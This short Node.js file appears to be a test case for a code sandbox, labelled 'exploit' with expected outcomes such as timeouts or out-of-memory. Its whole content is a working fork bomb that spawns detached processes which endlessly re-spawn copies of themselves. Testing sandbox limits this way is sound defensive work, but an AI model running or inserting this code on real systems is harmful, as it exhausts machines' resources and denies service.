// exploit: every process starts more processes, for ever
// outcome: wall-timeout cpu-timeout out-of-memory finished exited signal
// wall: 2500
const { spawn } = require('node:child_process')
const bomb = `const { spawn } = require('node:child_process'); const more = () => { try { for (let i = 0; i < 4; i += 1) spawn(process.execPath, ['-e', process.env.BOMB], { stdio: 'ignore', detached: true, env: process.env }).on('error', () => {}) } catch {} }; more(); setInterval(more, 20)`
process.env.BOMB = bomb
for (let i = 0; i < 100; i += 1) spawn(process.execPath, ['-e', bomb], { stdio: 'ignore', detached: true, env: process.env }).on('error', () => {})
setInterval(() => {}, 1000)
